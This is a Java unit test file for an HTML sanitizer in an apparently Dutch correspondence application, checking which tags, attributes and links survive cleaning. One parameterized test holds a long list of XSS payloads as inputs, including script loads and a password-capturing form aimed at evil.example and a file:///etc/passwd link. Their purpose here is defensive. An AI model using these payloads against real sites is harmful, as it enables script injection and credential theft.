package nl.meekijken.correspondence;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTests {

	private static final String LEAVES = "target=\"_blank\" rel=\"noopener noreferrer nofollow\"";

	/** Every tag that may be left, with every attribute it may have. */
	private static final Pattern HARMLESS = Pattern.compile("</?(?:p|div|br|h[1-4]|ul|ol|li|strong|em|b|i|blockquote"
			+ "|table|caption|thead|tbody|tfoot|tr|th|td)(?: (?:colspan|rowspan)=\"[0-9]{1,2}\")*(?: /)?>"
			+ "|<a href=\"(?:https?://|mailto:|tel:)[^\"<>]*\" " + LEAVES + ">|</a>");

	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
			<p>Beste <b>mevrouw</b> De Vries,<br>dank u.</p>    | <p>Beste <b>mevrouw</b> De Vries,<br />dank u.</p>
			<h1>Een</h1><h4>Vier</h4><blockquote>x</blockquote> | <h1>Een</h1><h4>Vier</h4><blockquote>x</blockquote>
			<ul><li>een</li></ul><ol><li>twee</li></ol>         | <ul><li>een</li></ul><ol><li>twee</li></ol>
			<em>a</em> <i>b</i> <strong>c</strong>              | <em>a</em> <i>b</i> <strong>c</strong>
			<div>een</div><div>twee</div>                       | <div>een</div><div>twee</div>
			<u>a</u> <font color="red">b</font> <center>c</center> | a b c
			5 < 6 & "waar"                                      | 5 &lt; 6 &amp; &#34;waar&#34;
			""")
	void whatOneReadsIsLeft(String sent, String shown) {
		assertThat(SafeHtml.of(sent)).isEqualTo(shown);
	}

	@Test
	void tablesKeepTheirShape() {
		assertThat(SafeHtml.of("<table width=600 bgcolor=red><thead><tr><th colspan=2>Post</th></tr></thead>"
				+ "<tbody><tr><td style='x'>a</td><td>b</td></tr></tbody></table>"))
			.isEqualTo("<table><thead><tr><th colspan=\"2\">Post</th></tr></thead>"
					+ "<tbody><tr><td>a</td><td>b</td></tr></tbody></table>");
	}

	@ParameterizedTest
	@CsvSource({ "https://www.112schade.nl/a?b=c", "http://example.nl/", "tel:+31201234567", "HTTPS://example.nl/" })
	void linksLeaveThisSiteAndTellNothing(String link) {
		assertThat(SafeHtml.of("<a class=x id=y href=\"" + link + "\" target=_top rel=opener>hier</a>"))
			.isEqualToIgnoringCase(
					"<a href=\"" + link.replace("=", "&#61;").replace("+", "&#43;") + "\" " + LEAVES + ">hier</a>");
	}

	@Test
	void aMailAddressMayBeWrittenTo() {
		assertThat(SafeHtml.of("<a href='mailto:mo@example.nl'>Mo</a>"))
			.isEqualTo("<a href=\"mailto:mo&#64;example.nl\" " + LEAVES + ">Mo</a>");
	}

	@ParameterizedTest
	@ValueSource(strings = { "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
			"<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
			"<img src='https://evil.example/pixel.gif' width=1 height=1>", "<svg onload=alert(1)>",
			"<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
			"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
			"<a href=' javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
			"<a href='&#106;avascript:alert(1)'>x</a>", "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
			"<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>",
			"<a href='file:///etc/passwd'>x</a>", "<a href='blob:x'>x</a>", "<a href='/uitloggen'>x</a>",
			"<a href='//evil.example'>x</a>", "<a href='\\\\evil.example\\x'>x</a>", "<a href='https:///x'>x</a>",
			"<a href='?zoek=x'>x</a>", "<a href='#x'>x</a>", "<a name=x id=x>x</a>",
			"<a href='https://x.example' onclick='alert(1)' style='position:fixed'>x</a>",
			"<a href='https://x.example\" onmouseover=\"alert(1)'>x</a>",
			"<p onclick=alert(1) style='x' class=y id=z>x</p>",
			"<p style=\"background:url(https://evil.example/x)\">x</p>",
			"<style>@import 'https://evil.example/x.css';</style>",
			"<link rel=stylesheet href=https://evil.example/x.css>",
			"<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href='https://evil.example/'>",
			"<iframe src='https://evil.example'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
			"<object data='x.swf'></object>", "<embed src='x.swf'>",
			"<form action='https://evil.example'><input name=wachtwoord><button>Inloggen</button></form>",
			"<input autofocus onfocus=alert(1)>", "<textarea><script>alert(1)</script></textarea>",
			"<video poster='https://evil.example/x'><source onerror=alert(1)></video>",
			"<audio src='https://evil.example/x' autoplay></audio>", "<details open ontoggle=alert(1)>x</details>",
			"<table background='https://evil.example/x'><tr><td background=x>y</td></tr></table>",
			"<td colspan=1000000 rowspan='\" onclick=alert(1) x=\"'>x</td>",
			"<!--[if mso]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->",
			"<![CDATA[<script>alert(1)</script>]]>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
			"<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>",
			"<title><img src=x onerror=alert(1)></title>", "<button hx-get=/dossiers hx-trigger=load>x</button>",
			"<div hx-post='/x' data-hx-get='/y' hx-trigger='load'>x</div>",
			"<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<isindex action=javascript:alert(1)>",
			"<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1)>x", "<b <script>alert(1)</script>0",
			"<p/onclick=alert(1)//x>", "<\u017Fcript>alert(1)</\u017Fcript>", "<a href=\"tel:1\"><img src=x>" })
	void nothingIsLeftThatRunsLooksOrCallsOut(String hostile) {
		var shown = SafeHtml.of(hostile);
		assertThat(HARMLESS.matcher(shown).replaceAll("")).doesNotContain("<", ">");
		assertThat(shown.toLowerCase(Locale.ROOT)).doesNotContainPattern("href=\"(?!https?://x\\.example|tel:1)");
	}

	@Test
	void whatAScriptOrStyleSaysIsNotShownAsText() {
		assertThat(SafeHtml.of("<style>p { color: red }</style><script>let x</script><p>tekst</p>"))
			.isEqualTo("<p>tekst</p>");
	}

	@Test
	void whatIsLeftIsClosed() {
		assertThat(SafeHtml.of("</div></body></html><table><tr><td><p>open <b>vet"))
			.isEqualTo("<table><tbody><tr><td><p>open <b>vet</b></p></td></tr></tbody></table>");
	}

	@Test
	void whatIsCleanStaysAsItIs() {
		var once = SafeHtml.of("<p>a &amp; b <a href='https://x.example/?a=1&amp;b=2'>c</a></p>");
		assertThat(SafeHtml.of(once)).isEqualTo(once);
	}

	@Test
	void aThousandOpenTagsAreNoTrouble() {
		assertThat(SafeHtml.of("<blockquote>".repeat(100_000) + "x")).hasSizeLessThan(20_000);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', value = {
			"<a href='https://boos.example/x?a=1&amp;b=2'>uw bank</a> | uw bank [https://boos.example/x?a=1&amp;b=2]",
			"<a href='mailto:mo@example.nl'><b>Mo</b></a> | <b>Mo</b> [mailto:mo@example.nl]",
			"<a href='javascript:steel()'>hier</a> | hier", "<a name=x>anker</a> | anker",
			"<a href='https://a.example'><a href='https://b.example'>twee</a></a> | [https://a.example]twee [https://b.example]",
			"<p onclick=x()>tekst<script>steel()</script><img src=https://a.example/p></p> | <p>tekst</p>" })
	void ofAStrangerALinkBecomesItsWordsAndWhereItLeads(String sent, String shown) {
		assertThat(SafeHtml.withoutLinks(sent).strip()).isEqualToIgnoringWhitespace(shown);
		assertThat(SafeHtml.withoutLinks(sent)).doesNotContain("<a", "href", "script", "onclick", "<img");
	}

}
